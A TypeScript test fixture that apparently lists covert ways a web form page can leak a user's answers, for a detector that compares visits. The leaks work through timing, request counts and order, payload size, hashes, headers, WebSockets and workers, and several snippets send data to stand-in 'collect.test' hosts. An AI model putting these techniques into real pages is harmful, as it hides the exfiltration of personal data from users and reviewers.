import type { FormPage } from './forms.js'

// Pages whose answers leave in a way that no search finds: by what is sent, how often, in which order, how long, how late,
// split, or under a key that only the page has. All of it after the click that consents, where something may leave.

/** One page of each kind, with what the comparison of visits has to call it. */
export const covert: readonly (FormPage & { readonly kinds: readonly string[] })[] = [
  { id: 'choice', kinds: ['set'], code: `await get('/' + (of('age') < 65 ? 'young' : 'older') + '.css')` },
  { id: 'choice-of-file', kinds: ['set'], code: `await get('/leaflet-' + of('about').length + '.pdf')` },
  {
    id: 'choice-of-host',
    kinds: ['set'],
    code: `await fetch('http://' + (v.length % 2 ? 'one' : 'two') + '.choice-of-host.collect.test/', { mode: 'no-cors' })`,
  },
  {
    id: 'choice-of-method',
    kinds: ['set'],
    code: `await fetch(S + '/a', { mode: 'no-cors', method: of('age') < 65 ? 'GET' : 'POST' })`,
  },
  { id: 'count', kinds: ['count'], code: `for (let nth = 0; nth < of('about').length; nth += 5) await get('/pixel')` },
  {
    id: 'order',
    kinds: ['order'],
    code: `for (const one of of('age') < 65 ? ['/a', '/b'] : ['/b', '/a']) await get(one)`,
  },
  { id: 'size', kinds: ['length'], code: `await post('/a', 'x'.repeat(v.length))` },
  { id: 'timing', kinds: ['timing'], code: `await get('/a'); await later(of('age') < 65 ? 50 : 650); await get('/b')` },
  { id: 'encrypted', kinds: ['length'], code: `await post('/a', await sealed(bytesOf(v)))` },
  { id: 'encrypted-padded', kinds: ['bytes'], code: `await post('/a', await sealed(padded(v)))` },
  { id: 'salted', kinds: ['bytes'], code: `await post('/a', await digest('a salt of ours' + v))` },
  {
    id: 'keyed',
    kinds: ['bytes'],
    code: `const key = await crypto.subtle.importKey('raw', bytesOf('a key of ours'), { name: 'HMAC', hash: 'SHA-256' }, false, ['sign'])
await post('/a', await crypto.subtle.sign('HMAC', key, bytesOf(v)))`,
  },
  {
    id: 'split',
    kinds: ['bytes'],
    code: `for (let at = 0; at < 24; at += 3) await post('/part' + at, v.slice(at, at + 3))`,
  },
  { id: 'flag', kinds: ['bytes'], code: `await post('/a', JSON.stringify({ flag: of('age') < 65 ? 'a' : 'b' }))` },
  {
    id: 'header',
    kinds: ['bytes'],
    code: `await fetch(S + '/a', { headers: { 'x-variant': of('age') < 65 ? 'a' : 'b' } }).catch(() => {})`,
  },
  {
    id: 'kept-choice',
    kinds: ['bytes', 'set'],
    code: `localStorage.setItem('theme', of('age') < 65 ? 'dawn' : 'dusk')`,
  },
  {
    id: 'socket-choice',
    kinds: ['bytes'],
    code: `await new Promise((done) => { const one = new WebSocket('ws://socket-choice.collect.test/'); one.onopen = () => { one.send(of('age') < 65 ? 'a' : 'b'); setTimeout(done, 200) }; one.onerror = done })`,
  },
  {
    // A browser looks by itself whether a worker has changed: whoever asks it to must not pass for that.
    id: 'worker-looked-at',
    kinds: ['set', 'count'],
    opening: `document.body.hidden = true
navigator.serviceWorker.register('/service.js')
navigator.serviceWorker.ready.then(() => { document.body.hidden = false })`,
    code: `if (of('age') < 65) await (await navigator.serviceWorker.ready).update()`,
  },
  {
    id: 'worker-choice',
    kinds: ['bytes', 'set'],
    code: `new Worker(URL.createObjectURL(new Blob(["onmessage = ({ data }) => fetch('http://worker-choice.collect.test/' + data, { mode: 'no-cors' })"]))).postMessage(of('age') < 65 ? 'a' : 'b'); await later(300)`,
  },
]
